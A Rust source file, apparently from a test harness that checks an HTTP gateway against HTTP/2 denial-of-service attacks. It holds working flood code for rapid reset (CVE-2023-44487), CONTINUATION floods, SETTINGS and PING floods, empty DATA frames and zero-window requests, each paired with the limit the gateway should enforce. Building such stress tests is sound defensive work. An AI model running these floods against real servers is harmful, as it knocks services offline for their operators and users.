//! Clients that use HTTP/2 against the server.

use std::io;

use tokio::{
    io::AsyncWriteExt as _,
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
};

use super::{Attack, DEFAULT};
use crate::{
    field::Field,
    frames::{
        ACK, END_HEADERS, END_STREAM, Frame, INITIAL_WINDOW_SIZE, field as header, frame, get,
        kind, opening, read,
    },
};

/// How many frames are written at once.
const BATCH: u32 = 64;

/// Streams at a time that the gateway allows.
const STREAMS: u32 = 64;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "h2-rapid-reset",
        what: "8 connections open streams and reset each at once (CVE-2023-44487)",
        unit: "stream",
        limit: "some tens of streams reset before they are handled; the connection ends",
        settings: DEFAULT,
        run: |field| Box::pin(rapid_reset(field)),
    },
    Attack {
        name: "h2-continuation",
        what: "8 connections send heads that never end, in CONTINUATION frames",
        unit: "frame",
        limit: "32 KiB for a head; the connection ends",
        settings: DEFAULT,
        run: |field| Box::pin(continuation(field)),
    },
    Attack {
        name: "h2-settings",
        what: "8 connections send SETTINGS frames",
        unit: "frame",
        limit: "4 KiB of frames, then others have their turn; no setting: the network in front",
        settings: DEFAULT,
        run: |field| {
            let settings = frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]);
            Box::pin(control(field, settings))
        },
    },
    Attack {
        name: "h2-ping",
        what: "8 connections send PING frames",
        unit: "frame",
        limit: "4 KiB of frames, then others have their turn; no setting: the network in front",
        settings: DEFAULT,
        run: |field| Box::pin(control(field, frame(kind::PING, 0, 0, &[0; 8]))),
    },
    Attack {
        name: "h2-empty-frames",
        what: "8 connections send DATA frames without data",
        unit: "frame",
        limit: "1 KiB/s after 10 s for a body; the cost of a frame",
        settings: DEFAULT,
        run: |field| Box::pin(empty_frames(field)),
    },
    Attack {
        name: "h2-closed-windows",
        what: "100 connections ask 64 times for /openapi.json, and never open a window",
        unit: "stream",
        limit: "the burst of `--rate-limit-client`; 30 s for an answer; half of 256 MiB of answers",
        settings: DEFAULT,
        run: |field| Box::pin(closed_windows(field)),
    },
];

/// A connection, opened.
async fn open(
    field: &Field,
    setting: Option<(u16, u32)>,
) -> Option<(OwnedReadHalf, OwnedWriteHalf)> {
    let mut stream: TcpStream = field.connect().await?.stream;
    stream.write_all(&opening(setting)).await.ok()?;
    Some(stream.into_split())
}

/// Writes for as long as the gateway takes it, and reads what it says, until the connection or the
/// attack ends.
async fn both(
    field: &Field,
    (mut reader, writer): (OwnedReadHalf, OwnedWriteHalf),
    write: impl AsyncFnOnce(OwnedWriteHalf) -> io::Result<()>,
    mut seen: impl FnMut(&Frame),
) {
    let read_all = async {
        while let Some(frame) = read(&mut reader).await? {
            seen(&frame);
            if frame.kind == kind::GOAWAY {
                break;
            }
        }
        io::Result::Ok(())
    };
    let race = async {
        tokio::select! {
            _ = write(writer) => {}
            _ = read_all => {}
        }
    };
    if field.within(race).await.is_some() {
        field.count_closed();
    }
}

fn request(field: &Field, path: &str) -> Vec<u8> {
    get(path, &field.server.to_string(), &field.requests.client)
}

async fn rapid_reset(field: Field) {
    let block = request(&field, "/healthz");
    let client = |field: Field, _| {
        let block = block.clone();
        async move {
            while !field.is_over() {
                let Some(connection) = open(&field, None).await else {
                    continue;
                };
                let write = async |mut writer: OwnedWriteHalf| {
                    let mut stream = 1;
                    loop {
                        let mut bytes = Vec::new();
                        for _ in 0..BATCH {
                            let flags = END_HEADERS | END_STREAM;
                            bytes.extend(frame(kind::HEADERS, flags, stream, &block));
                            // CANCEL
                            bytes.extend(frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                            stream += 2;
                        }
                        writer.write_all(&bytes).await?;
                        field.count(BATCH.into());
                    }
                };
                both(&field, connection, write, |_| {}).await;
            }
        }
    };
    field.each(8, client).await;
}

async fn continuation(field: Field) {
    let head = frame(kind::HEADERS, END_STREAM, 1, &request(&field, "/healthz"));
    let more = header("x-more", &"a".repeat(100)).repeat(100);
    let more = frame(kind::CONTINUATION, 0, 1, &more);
    flood(field, head, more, 1).await;
}

/// Sends one frame again and again.
async fn control(field: Field, one: Vec<u8>) {
    flood(field, Vec::new(), one, BATCH).await;
}

async fn empty_frames(field: Field) {
    let path = format!("/flashaccess/domainserver/{}/register", field.honest_domain);
    let mut block = request(&field, &path);
    // :method POST in place of GET
    block[0] = 0x83;
    let head = frame(kind::HEADERS, END_HEADERS, 1, &block);
    flood(field, head, frame(kind::DATA, 0, 1, &[]), BATCH).await;
}

/// Sends `first` on each connection, and then a frame again and again, so many at once.
async fn flood(field: Field, first: Vec<u8>, again: Vec<u8>, at_once: u32) {
    let again = again.repeat(at_once as usize);
    let client = |field: Field, _| {
        let (first, again) = (first.clone(), again.clone());
        async move {
            while !field.is_over() {
                let Some(connection) = open(&field, None).await else {
                    continue;
                };
                let write = async |mut writer: OwnedWriteHalf| {
                    writer.write_all(&first).await?;
                    loop {
                        writer.write_all(&again).await?;
                        field.count(at_once.into());
                    }
                };
                both(&field, connection, write, |_| {}).await;
            }
        }
    };
    field.each(8, client).await;
}

async fn closed_windows(field: Field) {
    let block = request(&field, "/openapi.json");
    let client = |field: Field, _| {
        let block = block.clone();
        async move {
            while !field.is_over() {
                let Some(connection) = open(&field, Some((INITIAL_WINDOW_SIZE, 0))).await else {
                    continue;
                };
                let write = async |mut writer: OwnedWriteHalf| {
                    writer
                        .write_all(&frame(kind::SETTINGS, ACK, 0, &[]))
                        .await?;
                    for number in 0..STREAMS {
                        let flags = END_HEADERS | END_STREAM;
                        let head = frame(kind::HEADERS, flags, 2 * number + 1, &block);
                        writer.write_all(&head).await?;
                        field.count(1);
                    }
                    field.hold().await;
                    Ok(())
                };
                let seen = |frame: &Frame| {
                    if frame.kind == kind::DATA && !frame.payload.is_empty() {
                        field.found_wrong("data came through a closed window");
                    }
                };
                both(&field, connection, write, seen).await;
            }
        }
    };
    field.each(field.pick(100, 8), client).await;
}
